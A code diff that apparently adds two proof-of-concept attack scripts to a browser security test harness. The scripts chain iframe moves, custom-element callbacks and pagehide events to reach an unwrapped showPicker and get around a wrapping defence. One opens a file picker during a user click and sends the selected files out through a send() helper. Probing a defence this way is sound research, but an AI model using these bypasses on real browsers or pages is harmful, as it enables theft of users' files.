@@ -158,6 +158,67 @@ const WAYS = {
         armed = false;
         note('after: frame connected ' + f.isConnected + ', grabbed ' + !!window.grabbed);
       }, { once: true });`,
+  // Top nodes, the top's box.replaceChildren(d); box = [g, d], g an empty frame (no address) put in with the CHILD
+  // copy's wrapped append (so the child's copy wraps g's first document and listens there, not the top's).
+  pagehideotherarm: `
+      ${helpers}
+      const c = document.createElement('iframe');
+      c.src = '/attack37-child';
+      document.body.append(c);
+      const box = document.createElement('div');
+      document.body.append(box);
+      const d = document.createElement('div');
+      const f = frame();
+      customElements.define('x-phoa-thirtyseven', class extends HTMLElement {
+        connectedCallback() {
+          if (!armed) return;
+          armed = false;
+          tryGrab('connectedCallback (x-phoa-thirtyseven)');
+          try { moveOut(f); } catch (e) { note('moveOut threw ' + e.name); }
+        }
+      });
+      f.append(document.createElement('x-phoa-thirtyseven'));
+      c.addEventListener('load', () => {
+        const cw = window[0];
+        const g = document.createElement('iframe');
+        cw.Element.prototype.append.call(box, g, d);
+        const gw = window[1];
+        note('g: showPicker ' + (wrapped(gw.HTMLInputElement.prototype.showPicker) ? 'wrapped' : 'NATIVE') + ', child own append ' + (cw.Element.prototype.append !== Element.prototype.append));
+        gw.addEventListener('pagehide', () => { d.append(f); armed = true; note('pagehide: frame in d ' + d.contains(f) + ', f connected ' + f.isConnected); }, { once: true });
+        try { box.replaceChildren(d); } catch (e) { note('threw ' + e.name + ' ' + e.message); }
+        armed = false;
+        note('after: frame connected ' + f.isConnected + ', grabbed ' + !!window.grabbed);
+      }, { once: true });`,
+  // changefirst, the picker opened at once in the callback inside the person's click (no escape needed).
+  changeclickopen: `
+      ${grabHelpers}
+      const box = document.createElement('div');
+      document.body.append(box);
+      const inp = document.createElement('input');
+      const d = document.createElement('div');
+      box.append(inp, d);
+      const f = frame();
+      let go = false;
+      customElements.define('x-cco-thirtyseven', class extends HTMLElement {
+        connectedCallback() {
+          if (!go) return;
+          go = false;
+          const b = last();
+          note('callback: b ' + says(b));
+          if (!b || wrapped(b.HTMLInputElement.prototype.showPicker)) return;
+          const input = document.createElement('input');
+          input.type = 'file';
+          input.addEventListener('change', () => { if (input.files.length) send([...input.files], 'change'); });
+          try { b.HTMLInputElement.prototype.showPicker.call(input); note('opened in the callback'); } catch (e) { note('callback: ' + e.name); }
+        }
+      });
+      f.append(document.createElement('x-cco-thirtyseven'));
+      document.getElementById('open').addEventListener('click', () => {
+        inp.focus();
+        document.execCommand('insertText', false, 'typed');
+        inp.addEventListener('change', () => { d.append(f); go = true; }, { once: true });
+        try { box.replaceChildren(d); } catch (e) { note('threw ' + e.name); }
+      });`,
 };
 const { names: PICKER_WAYS, page: picker } = pickerWaysPage(WAYS);
 export { PICKER_WAYS };
